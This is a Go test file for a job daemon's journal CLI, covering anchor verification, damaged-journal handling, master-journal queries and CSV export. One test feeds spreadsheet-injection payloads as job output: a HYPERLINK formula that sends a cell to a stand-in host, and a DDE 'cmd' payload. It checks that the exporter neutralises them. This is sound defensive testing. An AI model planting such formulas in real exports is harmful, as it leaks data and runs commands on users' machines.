package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"jobd/cmd/internal/exit"
	"jobd/journal"
	"jobd/store/storetest/check"
	"jobd/store/storetest/must"
)

// workersJournal is the journal of a worker, of so many events, and an anchor of its newest.
func workersJournal(t *testing.T, name string, events int64) (dir, anchor string) {
	t.Helper()
	dir = t.TempDir()
	j := openJournal(t, dir)
	appendAll(t, j, journal.Draft{Payload: journal.Opened{Name: name}})
	for n := range events - 1 {
		appendAll(t, j, journal.Draft{Job: n + 1, Payload: journal.Ignored{Reason: "x"}})
	}
	must.Do(t, j.Close())
	got := jobctl{}.run(t, "journal", "anchor", "--journal", dir)
	return dir, strings.TrimSpace(got.out)
}

// The file that a master's anchors are in is compared with copied folders as it is: each with its own worker's lines.
func TestAMastersAnchorsOnAFolder(t *testing.T) {
	t.Parallel()
	one, oneAnchor := workersJournal(t, "node-1", 5)
	two, twoAnchor := workersJournal(t, "node-2", 7)
	file := filepath.Join(t.TempDir(), "heads")
	write := func(format string, args ...any) {
		must.Do(t, os.WriteFile(file, fmt.Appendf(nil, format, args...), 0o600))
	}
	write("%s node-1\n%s node-2\n", oneAnchor, twoAnchor)
	for _, dir := range []string{one, two} {
		got := jobctl{}.run(t, "journal", "verify", "--journal", dir, "--anchor", file)
		if got.code != 0 || !strings.Contains(got.out, "anchors: 1 agree\nproven up to event") {
			t.Errorf("%+v", got)
		}
	}
	write("%s node-1\n%s node-2\n", oneAnchor, oneAnchor)
	got := jobctl{}.run(t, "journal", "verify", "--journal", two, "--anchor", file)
	if got.code != 1 || !strings.Contains(got.out, "sound up to event 0\nfirst bad sequence number: 5") || !strings.Contains(got.err, "the history was rewritten") {
		t.Errorf("%+v", got)
	}
	write("%s node-1\n%s node-3\n", oneAnchor, twoAnchor)
	got = jobctl{}.run(t, "journal", "verify", "--journal", two, "--anchor", file)
	if got.code != 1 || !strings.Contains(got.err, "has no anchor of worker 'node-2', whose journal this is") {
		t.Errorf("%+v", got)
	}
	write("%s\n", twoAnchor) // as jobctl journal anchor --journal writes it
	if got := (jobctl{}).run(t, "journal", "verify", "--journal", two, "--anchor", file); got.code != 0 {
		t.Errorf("%+v", got)
	}
}

// A line of anchors is a number, a hash and perhaps a name, and one that bears another worker's name is not compared.
func TestAnchorsOfOthersAreNotCompared(t *testing.T) {
	t.Parallel()
	dir, anchor := workersJournal(t, "w1", 5)
	bad := strings.Replace(anchor, "5 ", "9 ", 1)
	file := filepath.Join(t.TempDir(), "heads")
	for lines, says := range map[string]string{
		anchor + "\n":                                    "",
		anchor + " w1\n":                                 "",
		anchor + " w1\n" + bad + " w9\n":                 "",
		anchor + " w9\n":                                 "has no anchor of worker 'w1', whose journal this is",
		anchor + " " + anchor + "\n":                     "has no anchor of worker",
		anchor + " w1 more\n":                            "has no anchor of worker",
		bad + "\n" + anchor + " w1\n":                    "an anchor knows event 9",
		anchor + " w1\n" + bad + "\n" + anchor + " w9\n": "an anchor knows event 9",
	} {
		must.Do(t, os.WriteFile(file, []byte(lines), 0o600))
		got := jobctl{}.run(t, "journal", "verify", "--journal", dir, "--anchor", file)
		if (got.code == 0) != (says == "") || !strings.Contains(got.err, says) {
			t.Errorf("%q: %+v, want %q", lines, got, says)
		}
	}
}

// Readers end with exit code 1 and a word on stderr where what they read is not what was written, behind what is.
func TestReadersEndWithExitCode1(t *testing.T) {
	t.Parallel()
	dir, _ := workersJournal(t, "node-1", 5)
	head := filepath.Join(dir, "head")
	content := must.Get(os.ReadFile(head))(t)
	must.Do(t, os.WriteFile(head, []byte(strings.Replace(string(content), "00005 ", "00006 ", 1)), 0o600))
	for _, command := range []string{"log", "log -n 2", "export", "stats", "state", "log --kind opened", "show 2", "anchor"} {
		got := jobctl{}.run(t, append(append([]string{"journal"}, strings.Fields(command)...), "--journal", dir)...)
		if got.code != 1 || !strings.Contains(got.err, "events up to 6 were acknowledged, the journal ends at 5") {
			t.Errorf("%s: %+v", command, got)
		}
		if strings.HasPrefix(command, "log") && !strings.Contains(got.out, "\n") {
			t.Errorf("%s: nothing of what is sound is printed: %+v", command, got)
		}
	}
	if got := (jobctl{}).run(t, "journal", "verify", "--journal", dir); got.code != 1 || !strings.Contains(got.out, "up to event 5\nfirst bad sequence number: 6") {
		t.Errorf("verify: %+v", got)
	}
}

// damageEvent changes a byte of an event in a journal of oneDay's.
func damageEvent(t *testing.T, dir, within string) {
	t.Helper()
	path := filepath.Join(dir, "segment-00000001.db")
	content := must.Get(os.ReadFile(path))(t)
	at := bytes.LastIndex(content, []byte(within))
	if at < 0 {
		t.Fatalf("%q is not in the journal", within)
	}
	content[at] ^= 1
	must.Do(t, os.WriteFile(path, content, 0o600))
}

// The newest events of a damaged journal are the newest that can be read, and the damage is told.
func TestNewestEventsOfADamagedJournal(t *testing.T) {
	t.Parallel()
	all := strings.SplitAfter(wholeLog, "\n")
	for name, test := range map[string]struct {
		damaged []string
		n       string
		want    []string
		told    string // where the damage begins; "" where nothing that was wanted is damaged
	}{
		"behind it":          {[]string{"@tokenseve"}, "2", all[15:17], ""},
		"just behind it":     {[]string{"10.0.0.9:4001"}, "1", all[16:17], ""},
		"one of three":       {[]string{"claim was lost"}, "3", all[15:17], "event 15"},
		"in their middle":    {[]string{"claim was lost"}, "5", append(append([]string{}, all[12:14]...), all[15:17]...), "event 15"},
		"all, and one more":  {[]string{`"a","b"`, `"a","concurrency"`}, "2", all[13:15], "event 16"},
		"the newest of them": {[]string{`"a","concurrency"`}, "1", all[15:16], "event 17"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := oneDay(t)
			for _, within := range test.damaged {
				damageEvent(t, dir, within)
			}
			got := jobctl{}.run(t, "journal", "log", "--journal", dir, "-n", test.n)
			check.Equal(t, got.out, strings.Join(test.want, ""), "stdout")
			if test.told == "" && got.err != "" || !strings.Contains(got.err, test.told) || (got.code == 0) != (test.told == "") {
				t.Errorf("exit code %d, stderr %q; want it to tell of damage at %q", got.code, got.err, test.told)
			}
		})
	}
}

// A spreadsheet runs what begins as a formula does; numbers stay what they are.
func TestCellsThatASpreadsheetWouldRun(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	j := openJournal(t, dir)
	outputs := map[string]string{ // what a job printed, and its cell
		`=HYPERLINK("http://x/?"&A1)`: `'=HYPERLINK("http://x/?"&A1)`,
		"+1+1":                        "'+1+1",
		"-2+3+cmd|' /C calc'!A0":      "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1)":                     "'@SUM(1)",
		"\t=1":                        "'\t=1",
		"\r=1":                        "'\r=1",
		"\n=1":                        "'\n=1",
		"  =1":                        "'  =1",
		"\ufeff=1":                    "'\ufeff=1",
		"\uff1d1":                     "'\uff1d1",
		"\ttext":                      "'\ttext",
		"-5":                          "-5",
		"+5.25":                       "+5.25",
		"-1e6\n":                      "-1e6\n",
		"-1e6x":                       "'-1e6x",
		"-":                           "'-",
		"a=1":                         "a=1",
		"1=1":                         "1=1",
		"":                            "",
		"'=1":                         "'=1",
		"plain\n=1":                   "plain\n=1",
	}
	jobs := map[string]string{}
	number := int64(-5) // ids stay numbers, below 0 as well
	for text := range outputs {
		if number++; number == 0 {
			number++
		}
		appendAll(
			t, j,
			journal.Draft{Job: number, Payload: journal.Accepted{Target: "a", Token: "@tokenfive"}},
			journal.Draft{Job: number, Payload: journal.Running{Attempt: 1}},
			journal.Draft{Job: number, Payload: journal.Started{Pid: 100, StartTime: 1, BootID: "boot"}},
			journal.Draft{Job: number, Payload: journal.Done{Result: "ok", Stdout: journal.Output{Kept: []byte(text), Size: int64(len(text))}}},
		)
		jobs[textOf(number)] = text
	}
	must.Do(t, j.Close())
	got := jobctl{}.run(t, "journal", "export", "--format=csv", "--journal", dir)
	rows, err := csv.NewReader(strings.NewReader(strings.ReplaceAll(got.out, "\r", "\\r"))).ReadAll()
	if err != nil || got.code != 0 {
		t.Fatalf("%v, %+v", err, got)
	}
	seen := 0
	for _, row := range rows[1:] {
		if row[4] != "done" {
			continue
		}
		seen++
		text, known := jobs[row[3]]
		if want := strings.ReplaceAll(outputs[text], "\r", "\\r"); !known || row[6] != want {
			t.Errorf("job %s printed %q, its cell is %q, want %q", row[3], text, row[6], want)
		}
		for _, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") {
				t.Errorf("cell %q", cell)
			}
		}
	}
	check.Equal(t, seen, len(outputs), "ends of")
}

// mastersDay makes a master's journal: two requests name job 9, one was refused to somebody who named it.
func mastersDay(t *testing.T) (dir string) {
	t.Helper()
	dir = t.TempDir()
	j := openJournal(t, dir)
	appendAll(
		t, j,
		journal.Draft{Payload: journal.Opened{Name: journal.MasterName, Targets: map[string]int{}}},
		journal.Draft{Payload: journal.Registered{Worker: "node-1", Targets: []string{"mail"}, By: "10.0.0.1:4000"}},
		journal.Draft{Payload: journal.Requested{Request: "run-manual", Jobs: []int64{8, 9}, By: "ann (token, 10.0.0.5:4711)", Workers: []string{"node-1"}}},
		journal.Draft{Payload: journal.Requested{Request: "pause", About: `targets=["mail"]`, By: "ann (token, 10.0.0.5:4711)", Workers: []string{"node-1"}}},
		journal.Draft{Payload: journal.Refused{Request: "cancel", Jobs: []int64{9}, Reason: "bob may read, not run", By: "bob (uid, unix:7)", Times: 2}},
		journal.Draft{Payload: journal.Requested{
			Request: "cancel", Jobs: []int64{9}, About: "grace=5", By: "eve (password, 10.0.0.6:4712)", Workers: []string{"node-1", "node-2"}, Others: 3,
		}},
		journal.Draft{Payload: journal.Left{Worker: "node-1", Reason: "it stops", By: "10.0.0.1:4000"}},
		journal.Draft{Payload: journal.Closed{Reason: "stopped"}},
	)
	must.Do(t, j.Close())
	return dir
}

// What a master was asked about a job, and by whom, is read from the master's journal, which says that
// the job's own history is elsewhere; with the worker's journal beside it, it is all one story.
func TestAMastersJournalTellsOfAJob(t *testing.T) {
	t.Parallel()
	const note = "this is the master's journal: the job's own history is in its worker's"
	master, worker := mastersDay(t), oneDay(t)
	asked := []string{
		"run-manual was asked for by ann (token, 10.0.0.5:4711), of node-1",
		"cancel was refused to bob (uid, unix:7), because bob may read, not run; so were 2 more requests",
		"cancel was asked for by eve (password, 10.0.0.6:4712), of node-1,node-2 and 3 more, with grace=5",
	}
	for name, test := range map[string]struct {
		args []string
		code int
		want []string
		not  string
	}{
		"show":     {[]string{"journal", "show", "9", "--journal", master}, exit.Success, append([]string{"job 9\n", note, "2026-11-20 10:00:03"}, asked...), "pause"},
		"--master": {[]string{"--master", "journal", "show", "9", "--journal", master}, exit.Success, append([]string{note}, asked...), "pause"},
		"as JSON":  {[]string{"journal", "show", "9", "--journal", master, "--output", "json"}, exit.Success, []string{`"kind":"requested"`, `"workers":["node-1","node-2"],"others":3`}, note},
		"with worker's": {
			[]string{"journal", "show", "9", "--journal", master, "--journal", worker},
			exit.Success,
			append([]string{"claimed by web-1", "given back, because the claim was lost"}, asked...), note,
		},
		"unknown":   {[]string{"journal", "show", "7", "--journal", master}, exit.NoJob, []string{"job 7: no journal knows it; " + note}, "asked"},
		"log --job": {[]string{"journal", "log", "--job", "9", "--journal", master, "-n", "1"}, exit.Success, []string{`request=cancel jobs=9 about="grace=5" workers=node-1,node-2 others=3`}, "bob"},
		"log --by":  {[]string{"journal", "log", "--by", "ann", "--journal", master}, exit.Success, []string{"request=run-manual jobs=8,9 workers=node-1", "request=pause"}, "eve"},
		"log":       {[]string{"journal", "log", "--journal", master}, exit.Success, []string{"registered", "left", "closed", `request=cancel reason="bob may read, not run" times=2 jobs=9`}, note},
		"verify":    {[]string{"journal", "verify", "--journal", master}, exit.Success, []string{"8"}, note},
		"export":    {[]string{"journal", "export", "--journal", master}, exit.Success, []string{`"kind":"registered"`, `"jobs":[9]`}, note},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := jobctl{}.run(t, test.args...)
			if got.code != test.code || strings.Contains(got.out, test.not) {
				t.Errorf("%+v", got)
			}
			for _, want := range test.want {
				check.Contains(t, got.out+got.err, want, "%+v", got)
			}
		})
	}
}
